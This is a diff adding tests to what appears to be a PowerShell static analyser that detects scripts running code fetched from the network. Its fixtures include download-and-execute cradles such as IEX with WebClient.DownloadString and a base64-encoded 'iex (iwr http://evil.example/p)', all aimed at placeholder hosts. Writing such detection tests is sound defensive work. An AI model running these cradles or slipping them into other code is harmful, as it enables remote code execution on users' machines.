@@ -39,6 +39,23 @@ def test_iwr_piped_to_iex_and_a_url_assembled_by_concatenation(tmp_path: Path) -
     assert fetched == {"http://x.example/a.ps1", "http://198.51.100.7/s.ps1"}
 
 
+def test_a_method_called_on_a_command_argument_is_that_call(tmp_path: Path) -> None:
+    # argument mode splits `(…).DownloadString(…)` into two elements; it is still one call
+    found = analyse(
+        tmp_path,
+        "$src = 'http://198.51.100.44/stage.ps1'\n"
+        "IEX (New-Object System.Net.WebClient).DownloadString($src)\n"
+        "Invoke-Expression (New-Object Net.WebClient).DownloadString('https://x.example.invalid/b.ps1')\n",
+    )
+    fetched = {(c.chain[-1].line, c.detail) for c in found if c.kind == Kind.EXEC_FETCHED}
+    assert fetched == {(2, "http://198.51.100.44/stage.ps1"), (3, "https://x.example.invalid/b.ps1")}
+
+
+def test_a_method_call_argument_that_fetches_nothing_stays_quiet(tmp_path: Path) -> None:
+    found = analyse(tmp_path, "Write-Output (Get-Date).ToString('yyyy-MM-dd')\nWrite-Host ('a,b').Split(',')\n")
+    assert [c for c in found if c.kind in (Kind.EXEC_FETCHED, Kind.NETWORK)] == []
+
+
 def test_base64_decoded_and_char_joined_payloads_are_run(tmp_path: Path) -> None:
     payload = base64.b64encode(b"iex (iwr http://evil.example/p)").decode()
     found = analyse(
